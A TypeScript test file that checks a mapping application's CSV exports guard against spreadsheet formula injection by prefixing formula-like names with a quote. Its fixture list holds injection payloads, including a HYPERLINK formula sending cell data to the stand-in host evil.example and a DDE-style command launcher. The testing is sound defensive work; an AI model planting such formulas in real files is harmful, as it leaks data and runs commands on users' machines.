/**
 * CSV downloads are safe to open in a spreadsheet (OWASP "CSV Injection"): a stored text that
 * starts with `=`, `+`, `-` or `@` reaches the file with a leading `'`, so Excel and LibreOffice
 * show it instead of running it; numbers stay numbers.
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { apiClient, point, type ApiClient } from '../api/api-client';
import { startServer, type RunningServer } from '../helpers/server';

let server: RunningServer;
let admin: ApiClient;
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|/C calc!A0', '+1+1', '-2+3'];
/** The server's clock is pinned, so the report's period (days of the project's zone) holds what the test stored whatever the hour it runs. */
const NOW = '2026-11-28T09:00:00+08:00';

beforeAll(async () => {
	server = await startServer({ env: { SANIMAP_NOW: NOW } });
	admin = apiClient(server.url, await server.login());
	for (const [i, name] of FORMULAS.entries()) await admin.create('bins', point(-12.5 + i * 0.001, -33.25), { name });
	await admin.create('zones', { type: 'Polygon', coordinates: [[[-12.6, -33.3], [-12.4, -33.3], [-12.4, -33.2], [-12.6, -33.2], [-12.6, -33.3]]] }, { name: FORMULAS[0] });
});
afterAll(() => server?.stop());

const rows = (csv: string) => Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;

it('prefixes formula-like names in a layer export, and keeps negative coordinates as numbers', async () => {
	const res = await admin.get('/api/collections/bins/export?format=csv');
	expect(res.status).toBe(200);
	const data = rows(res.text);
	expect(data.map((r) => r.name).sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
	expect(data.every((r) => r.lon.startsWith('-12.') && r.lat === '-33.2500000')).toBe(true);
});

it('prefixes a formula-like zone name in the report\'s scorecard CSV', async () => {
	const res = await admin.get(`/api/reports/csv?table=scorecard&from=2026-11-27&to=2026-11-29`);
	expect(res.status, res.text.slice(0, 300)).toBe(200);
	const zones = new Set(rows(res.text).map((r) => r.zone));
	expect(zones.has(`'${FORMULAS[0]}`)).toBe(true);
	expect(zones.has(FORMULAS[0])).toBe(false);
});
